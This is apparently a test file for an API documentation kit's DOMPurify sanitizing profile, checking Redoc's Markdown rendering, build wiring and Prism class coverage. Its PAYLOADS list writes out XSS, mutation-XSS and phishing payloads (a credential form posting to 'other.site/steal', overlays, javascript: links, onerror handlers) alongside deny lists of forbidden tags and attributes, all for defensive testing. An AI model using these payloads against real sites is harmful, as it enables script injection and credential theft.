/**
 * reference-kit/lib/purifyProfile.js: the kit's sanitizing profile for a spec's Markdown, on jsdom
 * as the server's render runs it (reference-kit/lib/serverPurify.js). Hostile HTML of every kind the
 * review found (forms, overlays, dialogs, image maps, SVG's `<style>`, markup in attribute values,
 * the site's own classes, mXSS classics) loses what makes it hostile; legitimate Markdown, rendered
 * by Redoc's own Markdown component, keeps what it shows; the pet store's Markdown comes out as it
 * did with DOMPurify's default profile. And the builds give Redoc this DOMPurify, the browser's too
 * (the theme plugin's replacement). Node only: no browser page is opened. Outputs are read with
 * htmlparser2, never with patterns over the HTML.
 */
import fs from 'node:fs';
import path from 'node:path';
import vm from 'node:vm';
import {createRequire} from 'node:module';
import React from 'react';
import {renderToStaticMarkup} from 'react-dom/server';
import {parseDocument, DomUtils} from 'htmlparser2';
import type {Element, Text} from 'domhandler';
import {expect, test} from '@playwright/test';
import {parseYaml} from '@redocly/openapi-core';
import {Markdown, MarkdownRenderer, OptionsProvider, RedocNormalizedOptions, ThemeProvider} from 'redoc';
import type {DOMPurify} from 'dompurify';
import {REPO_ROOT} from '../../scripts/repoRoot';
import {sanitizesMarkdown} from '../../reference-kit/reference/shared/palettes';

const KIT_LIB = path.join(REPO_ROOT, 'reference-kit/lib');
/** Modules as Redoc's bundle resolves them (npm overrides may give Redoc its own copies). */
const redocRequire = createRequire(require.resolve('redoc/package.json'));
const {JSDOM} = redocRequire('jsdom') as typeof import('jsdom');
const createDOMPurify = redocRequire('dompurify') as DOMPurify;

const serverPurify = require(path.join(KIT_LIB, 'serverPurify.js')) as DOMPurify;
const {PROFILE, PRISM_TOKEN_TYPES, SPEC_ID_PREFIX} = require(path.join(KIT_LIB, 'purifyProfile.js')) as {
  PROFILE: {ALLOWED_TAGS: string[]; ALLOWED_ATTR: string[]};
  PRISM_TOKEN_TYPES: Set<string>;
  SPEC_ID_PREFIX: string;
};
const h = React.createElement;

/** What the review found DOMPurify's default profile keeps, and what can script besides. */
const FORBIDDEN_ELEMENTS = [
  ...['form', 'input', 'button', 'select', 'textarea', 'option', 'optgroup', 'fieldset', 'datalist', 'output', 'label'],
  ...['style', 'dialog', 'map', 'area', 'meta', 'base', 'link', 'noscript', 'template', 'svg', 'math'],
  ...['script', 'iframe', 'object', 'embed', 'frame', 'frameset'],
];
const FORBIDDEN_ATTRIBUTES = ['style', 'autofocus', 'popover', 'popovertarget', 'formaction', 'action', 'download', 'ping', 'usemap', 'ismap'];

const elements = (html: string): Element[] => DomUtils.findAll(() => true, parseDocument(html).children);
/** The text of `html`, its pieces joined by a space. */
const text = (html: string) =>
  DomUtils.filter((node) => node.type === 'text', parseDocument(html).children)
    .map((node) => (node as Text).data.trim())
    .filter(Boolean)
    .join(' ');
/** The class names the profile lets through: Redoc's code classes and Prism's. */
const isCodeClass = (name: string) => name === 'token' || PRISM_TOKEN_TYPES.has(name) || /^language-[\w#+.-]+$/.test(name);
const ALLOWED_SCHEMES = new Set(['http', 'https', 'mailto']);
const scheme = (value: string) => /^([a-z][a-z\d+.-]*):/i.exec(value.replace(/[\u0000-\u0020]/g, ''))?.[1]?.toLowerCase();

/** Everything in `html` that the profile should have taken out; empty when it is clean. */
function leftovers(html: string): string[] {
  const found: string[] = [];
  for (const element of elements(html)) {
    const name = element.name.toLowerCase();
    if (FORBIDDEN_ELEMENTS.includes(name)) found.push(`<${name}>`);
    for (const [attribute, value] of Object.entries(element.attribs)) {
      const at = `<${name} ${attribute}="${value}">`;
      if (FORBIDDEN_ATTRIBUTES.includes(attribute) || /^(on|data-|form)/.test(attribute)) found.push(at);
      if (/[<>]/.test(value)) found.push(`${at}: markup in a value`);
      if (attribute === 'class' && !value.split(/\s+/).every(isCodeClass)) found.push(`${at}: a class not of code`);
      if ((attribute === 'id' || attribute === 'name') && value.includes('/')) found.push(`${at}: one of Redoc's ids`);
      if (['href', 'src', 'cite', 'srcset', 'poster', 'background'].includes(attribute)) {
        const kind = scheme(value);
        const image = kind === 'data' && name === 'img' && attribute === 'src' && /^data:image\//i.test(value);
        if (kind !== undefined && !ALLOWED_SCHEMES.has(kind) && !image) found.push(`${at}: a ${kind} address`);
      }
      if (attribute === 'target' && (value !== '_blank' || element.attribs.rel !== 'noopener noreferrer')) found.push(`${at}: opener open`);
    }
  }
  return found;
}

/** [what, hostile HTML, text that should remain (the content of what was taken out)]. */
const PAYLOADS: [string, string, string?][] = [
  ['a form posting elsewhere', '<form action="https://other.site/steal" method="post"><label>Password <input type="password" name="pw"></label><button>Sign in</button></form>', 'Password Sign in'],
  ['form controls on their own', '<input type="text" value="x"><select><option>One</option><optgroup label="g"><option>Two</option></optgroup></select><textarea>notes</textarea><fieldset><legend>L</legend></fieldset><datalist id="d"><option value="v"></datalist><output>42</output>', 'One Two notes L 42'],
  ['a button with a form action', '<button formaction="https://other.site" type="submit">Go</button>', 'Go'],
  ['a style overlay', '<div style="position:fixed;inset:0;z-index:9999;background:white">Log in again</div>', 'Log in again'],
  ['the site’s fixed navbar classes', '<div class="navbar navbar--fixed-top shadow--md">Fake navbar</div>', 'Fake navbar'],
  ['a Prism class beside a site class', '<span class="token keyword navbar">if</span>', 'if'],
  ['a style element', '<style>body{display:none}</style><p>after</p>', 'after'],
  ['a style element inside SVG', '<svg><style>@import url(https://other.site/x.css); *{visibility:hidden}</style><rect width="10" height="10"/></svg><p>after</p>', 'after'],
  ['a style element inside MathML', '<math><mi><style>*{display:none}</style></mi></math><p>after</p>', 'after'],
  ['an open dialog', '<dialog open>Your session expired</dialog>', 'Your session expired'],
  ['an image map over the column', '<img src="https://example.com/a.png" usemap="#m" ismap><map name="m"><area shape="rect" coords="0,0,9999,9999" href="https://other.site"></map>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://other.site"><p>text</p>', 'text'],
  ['a base element', '<base href="https://other.site/"><a href="docs">docs</a>', 'docs'],
  ['a style sheet link', '<link rel="stylesheet" href="https://other.site/x.css"><p>text</p>', 'text'],
  ['an HTML import', '<link rel="import" href="https://other.site/x.html"><p>text</p>', 'text'],
  ['noscript and template', '<p>a</p><noscript><img src="https://other.site/track"></noscript><template><p>hidden</p></template><p>b</p>', 'a b'],
  ['autofocus, popovers', '<div autofocus tabindex="0">x</div><div popover id="p">pop</div><span popovertarget="p">open</span>', 'x pop open'],
  ['download and ping', '<a href="https://example.com/f" download ping="https://other.site/ping">file</a>', 'file'],
  ['markup in an attribute value', '<p title="</div></div><img src=x onerror=alert(1)>">text</p><img alt="<b>x</b>" src="a.png">', 'text'],
  ['a comment closing in an attribute', '<a title="--><img src=x onerror=alert(1)>" href="#x">x</a>', 'x'],
  ['mXSS: MathML table, mglyph, style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mXSS: a style inside SVG that closes a paragraph', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mXSS: noscript in a paragraph', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['script and event handlers', '<script>alert(1)</script><img src="x" onerror="alert(1)"><p onclick="alert(1)">p</p>', 'p'],
  ['script addresses', '<a href="javascript:alert(1)">j</a><a href=" JaVa\tScRiPt:alert(1)">k</a><a href="data:text/html,<script>alert(1)</script>">d</a><img src="data:text/html,x">', 'j k d'],
  ['other schemes', '<a href="tel:+100">tel</a><a href="vbscript:x">vb</a><a href="file:///etc/passwd">file</a>', 'tel vb file'],
  ['data attributes the kit reads', '<div data-section-id="operation/addPet" data-kit-pending="x">fake section</div>', 'fake section'],
  ['ids of Redoc’s sections', '<div id="tag/pet">x</div><a name="operation/addPet">y</a>', 'x y'],
  ['a named target', '<a href="https://example.com" target="_parent">t</a><a href="https://example.com" target="_blank" rel="opener">b</a>', 't b'],
  ['a body element', '<body onload="alert(1)" style="display:none" class="navbar"><p>text</p></body>', 'text'],
  ['frames and objects', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">'],
];

test.describe('hostile HTML', () => {
  for (const [what, html, remains] of PAYLOADS) {
    test(`${what}: nothing of it is left but its text`, () => {
      const clean = serverPurify.sanitize(html);
      expect(leftovers(clean), clean).toEqual([]);
      // The server's DOMPurify keeps each result: the second call is answered from it, alike.
      expect(serverPurify.sanitize(html)).toBe(clean);
      // Hoisted pieces of text may end up side by side: compared without spaces.
      if (remains !== undefined) expect(text(clean).replace(/\s+/g, '')).toBe(remains.replace(/\s+/g, ''));
    });
  }

  test('a link that opens a new tab cannot reach back to the page', () => {
    const [link] = elements(serverPurify.sanitize('<a href="https://example.com" target="_BLANK" rel="opener">b</a>'));
    expect(link!.attribs).toEqual({href: 'https://example.com', target: '_blank', rel: 'noopener noreferrer'});
  });

  test("ids and names are the spec's own: prefixed, and the spec's own links and cells follow them", () => {
    const html = serverPurify.sanitize(
      '<a id="webpackChunkreader_site">w</a><p id="__docusaurus">r</p><a name="intro">i</a><img name="getElementById" alt="g">' +
        '<a href="#intro">to intro</a><a href="#tag/pet">to a tag</a><table><tr><th id="h">H</th></tr><tr><td headers="h x">1</td></tr></table>',
    );
    const all = elements(html);
    expect(all.flatMap((element) => [element.attribs.id, element.attribs.name]).filter(Boolean)).toEqual([
      'user-content-webpackChunkreader_site',
      'user-content-__docusaurus',
      'user-content-intro',
      'user-content-h',
    ]);
    expect(all.filter((element) => element.name === 'a').map((link) => link.attribs.href).filter(Boolean)).toEqual(['#user-content-intro', '#tag/pet']);
    expect(all.find((element) => element.name === 'td')!.attribs.headers).toBe('user-content-h user-content-x');
  });

  test('the profile allows none of the forbidden elements and attributes', () => {
    expect(PROFILE.ALLOWED_TAGS.filter((tag) => FORBIDDEN_ELEMENTS.includes(tag))).toEqual([]);
    expect(PROFILE.ALLOWED_ATTR.filter((attribute) => FORBIDDEN_ATTRIBUTES.includes(attribute) || /^(on|data-|form)/.test(attribute))).toEqual([]);
  });
});

test("every spec is sanitized unless the site's options say false, under either name; true wins", () => {
  const cases: [Record<string, unknown>, boolean][] = [
    [{}, true],
    [{sanitize: true}, true],
    [{untrustedSpec: 'true'}, true],
    [{sanitize: false}, false],
    [{untrustedSpec: false}, false],
    [{untrustedSpec: 'false'}, false],
    // A URL spec's forced untrustedSpec over a site's opt-out.
    [{sanitize: false, untrustedSpec: true}, true],
    [{untrustedSpec: false, sanitize: true}, true],
  ];
  for (const [options, sanitized] of cases) expect([options, sanitizesMarkdown(options)]).toEqual([options, sanitized]);
});

/** Markdown of the kinds API descriptions use. */
const LEGITIMATE = `A paragraph with [a link](https://example.com/docs "More"), [a relative one](../guide/), [a fragment](#section/Intro),
[mail](mailto:api@example.com), \`inline code\`, *emphasis*, **strong** and ~~struck~~ text.

## Second heading

| Column | Value |
| --- | :-: |
| one | 1 |

- first
- second
  1. nested

> A quotation.

![Remote](https://example.com/diagram.png "Diagram") ![Relative](img/logo.png) ![Inline](data:image/png;base64,iVBORw0KGgo=)

\`\`\`json
{"name": "Rex", "tags": [true, null, 1]}
\`\`\`

<details>
<summary>More</summary>

Hidden text.

</details>

<a href="https://example.com/new" target="_blank">In a new tab</a>
`;

test.describe("Redoc's Markdown", () => {
  /** Redoc's `dompurify`, which the kit's builds replace by its own: here pointed at the server's. */
  const redocPurify = createDOMPurify as unknown as {sanitize?: DOMPurify['sanitize']};
  let original: DOMPurify['sanitize'] | undefined;
  let calls = 0;
  test.beforeAll(() => {
    original = redocPurify.sanitize;
    redocPurify.sanitize = ((html: string) => {
      calls += 1;
      return serverPurify.sanitize(html);
    }) as DOMPurify['sanitize'];
  });
  test.afterAll(() => {
    redocPurify.sanitize = original;
  });

  const renderMarkdown = (source: string) => {
    const options = new RedocNormalizedOptions({untrustedSpec: true});
    const page = renderToStaticMarkup(h(ThemeProvider, {theme: options.theme}, h(OptionsProvider, {value: options}, h(Markdown, {source}))));
    // The HTML inside Redoc's own element (whose classes are styled-components').
    return DomUtils.getInnerHTML(DomUtils.findOne(() => true, parseDocument(page).children)!);
  };

  test('legitimate Markdown keeps its links, code, tables, headings, lists, images and details', () => {
    const before = calls;
    const html = renderMarkdown(LEGITIMATE);
    expect(calls, 'Redoc sanitized the HTML').toBe(before + 1);
    expect(leftovers(html)).toEqual([]);
    const all = elements(html);
    const named = (name: string) => all.filter((element) => element.name === name);

    expect(named('a').map((link) => link.attribs.href)).toEqual([
      'https://example.com/docs',
      '../guide/',
      '#section/Intro',
      'mailto:api@example.com',
      'https://example.com/new',
    ]);
    expect(named('a')[0]!.attribs.title).toBe('More');
    expect(named('a')[4]!.attribs).toMatchObject({target: '_blank', rel: 'noopener noreferrer'});
    expect(named('h2').map((heading) => [heading.attribs.id, DomUtils.textContent(heading)])).toEqual([['user-content-second-heading', 'Second heading']]);
    expect(named('em').length + named('strong').length + named('del').length).toBe(3);

    const codeBlock = named('code').find((code) => code.attribs.class === 'language-json');
    expect(codeBlock, 'the fenced block keeps its language class').toBeDefined();
    const tokens = DomUtils.findAll((element) => element.name === 'span', codeBlock!.children);
    expect(tokens.length).toBeGreaterThan(5);
    expect(new Set(tokens.map((token) => token.attribs.class))).toEqual(
      new Set(['token punctuation', 'token string-property property', 'token operator', 'token string', 'token boolean', 'token keyword', 'token number']),
    );
    expect(named('code').some((code) => DomUtils.textContent(code) === 'inline code')).toBe(true);

    expect(named('th').map((cell) => DomUtils.textContent(cell))).toEqual(['Column', 'Value']);
    expect(named('td').map((cell) => [DomUtils.textContent(cell), cell.attribs.align])).toEqual([
      ['one', undefined],
      ['1', 'center'],
    ]);
    expect(named('ul')).toHaveLength(1);
    expect(named('ol')).toHaveLength(1);
    expect(named('li')).toHaveLength(3);
    expect(named('blockquote')).toHaveLength(1);
    expect(named('img').map((image) => [image.attribs.src, image.attribs.alt])).toEqual([
      ['https://example.com/diagram.png', 'Remote'],
      ['img/logo.png', 'Relative'],
      ['data:image/png;base64,iVBORw0KGgo=', 'Inline'],
    ]);
    expect(named('details')).toHaveLength(1);
    expect(DomUtils.textContent(named('summary')[0]!)).toBe('More');
    expect(text(html)).toContain('Hidden text.');
  });

  test('hostile HTML in Markdown is cleaned as on its own', () => {
    const html = renderMarkdown(PAYLOADS.map(([, payload]) => payload).join('\n\n'));
    expect(leftovers(html)).toEqual([]);
  });
});

/** Every `description` in the pet store's files (openapi/), all of its Markdown. */
function petStoreDescriptions(): string[] {
  const found: string[] = [];
  const visit = (node: unknown): void => {
    if (Array.isArray(node)) node.forEach(visit);
    else if (node && typeof node === 'object') {
      for (const [key, value] of Object.entries(node)) {
        if (key === 'description' && typeof value === 'string') found.push(value);
        else visit(value);
      }
    }
  };
  const walk = (dir: string): void => {
    for (const entry of fs.readdirSync(dir, {withFileTypes: true})) {
      const file = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(file);
      else if (/\.(ya?ml|json)$/.test(entry.name)) visit(parseYaml(fs.readFileSync(file, 'utf8')));
    }
  };
  walk(path.join(REPO_ROOT, 'openapi'));
  return found;
}

test("the pet store's Markdown sanitizes to the same HTML as with DOMPurify's default profile, but for its ids' prefix", () => {
  const stock = createDOMPurify(new JSDOM('').window as unknown as Parameters<DOMPurify>[0]);
  const descriptions = petStoreDescriptions();
  expect(descriptions.length).toBeGreaterThan(50);
  const renderer = new MarkdownRenderer();
  const differ = descriptions.filter((description) => {
    const html = renderer.renderMd(description);
    const withoutPrefix = serverPurify.sanitize(html).replace(new RegExp(`(id="|name="|href="#)${SPEC_ID_PREFIX}`, 'g'), '$1');
    return withoutPrefix !== stock.sanitize(html);
  });
  expect(differ).toEqual([]);
  // The headings marked writes carry ids: the prefix is there.
  expect(descriptions.some((description) => serverPurify.sanitize(renderer.renderMd(description)).includes(`id="${SPEC_ID_PREFIX}`))).toBe(true);
});

/**
 * The token types and aliases of the Prism grammars Redoc's bundle loads: Prism and each grammar
 * evaluated in a context of their own, so that grammars other tests load do not count.
 */
function redocPrismTokenTypes(): Set<string> {
  const bundle = fs.readFileSync(redocRequire.resolve('redoc/bundles/redoc.lib.js'), 'utf8');
  const components = [...bundle.matchAll(/require\("(prismjs\/components\/prism-[\w-]+\.js)"\)/g)].map((match) => match[1]!);
  expect(components.length).toBeGreaterThan(10);
  const context = vm.createContext({});
  for (const file of [redocRequire.resolve('prismjs'), ...components.map((component) => redocRequire.resolve(component))]) {
    vm.runInContext(fs.readFileSync(file, 'utf8'), context);
  }
  const languages = (context as {Prism: {languages: Record<string, unknown>}}).Prism.languages;
  const names = new Set<string>();
  const seen = new Set<object>();
  const visit = (grammar: unknown): void => {
    if (!grammar || typeof grammar !== 'object' || seen.has(grammar)) return;
    seen.add(grammar);
    for (const [key, value] of Object.entries(grammar)) {
      if (key === 'rest') {
        visit(value);
        continue;
      }
      for (const name of key.split(/\s+/)) names.add(name);
      for (const pattern of [value].flat()) {
        if (!pattern || typeof pattern !== 'object') continue;
        const {alias, inside} = pattern as {alias?: string | string[]; inside?: unknown};
        for (const name of [alias ?? []].flat()) names.add(name);
        visit(inside);
      }
    }
  };
  for (const grammar of Object.values(languages)) visit(grammar);
  // Redoc's own additions to the JavaScript grammar (src/utils/highlight.ts).
  names.add('property');
  return names;
}

test("the profile's Prism classes cover every token type of the grammars Redoc loads", () => {
  const missing = [...redocPrismTokenTypes()].filter((name) => !PRISM_TOKEN_TYPES.has(name));
  expect(missing).toEqual([]);
});

test.describe("the builds give Redoc the kit's DOMPurify", () => {
  type Resource = {context: string; request: string};
  type Replacement = {resourceRegExp: RegExp; newResource: string | ((resource: Resource) => void)};
  const themePlugin = require(path.join(KIT_LIB, 'themePlugin.js')) as (
    context: unknown,
    options: {id: string; specIds: string[]},
  ) => {configureWebpack: (config: unknown, isServer: boolean) => {plugins: Replacement[]}};
  const REDOC_BUNDLES = path.dirname(redocRequire.resolve('redoc/bundles/redoc.lib.js'));

  /** What `request` from `context` becomes after the theme's replacements, in order, as webpack runs them. */
  function resolved(isServer: boolean, mode: string, context: string, request: string): string {
    const plugin = themePlugin({siteDir: REPO_ROOT, generatedFilesDir: path.join(REPO_ROOT, '.docusaurus')}, {id: 'default', specIds: []});
    const {plugins} = plugin.configureWebpack({mode, cache: false}, isServer);
    const resource = {context, request};
    for (const replacement of plugins) {
      if (!replacement.resourceRegExp.test(resource.request)) continue;
      if (typeof replacement.newResource === 'function') replacement.newResource(resource);
      else resource.request = replacement.newResource;
    }
    return resource.request;
  }

  for (const [build, isServer, mode, module] of [
    ['the browser, production', false, 'production', 'browserPurify.js'],
    ['the browser, npm start', false, 'development', 'browserPurify.js'],
    ['the server', true, 'production', 'serverPurify.js'],
  ] as const) {
    test(`${build}: Redoc's require('dompurify') is the kit's ${module}, the kit's own is the real one`, () => {
      expect(resolved(isServer, mode, REDOC_BUNDLES, 'dompurify')).toBe(path.join(KIT_LIB, module));
      expect(resolved(isServer, mode, KIT_LIB, 'dompurify')).toBe(redocRequire.resolve('dompurify'));
    });
  }

  test("browserPurify.js, on a page's window, sanitizes with the profile", () => {
    const file = path.join(KIT_LIB, 'browserPurify.js');
    const global = globalThis as {window?: unknown};
    global.window = new JSDOM('').window;
    delete require.cache[file];
    try {
      const browserPurify = require(file) as DOMPurify;
      const html = browserPurify.sanitize('<form action="https://other.site"><input type="password"><button style="position:fixed">Go</button></form>');
      expect(leftovers(html)).toEqual([]);
      expect(text(html)).toBe('Go');
    } finally {
      delete global.window;
      delete require.cache[file];
    }
  });
});
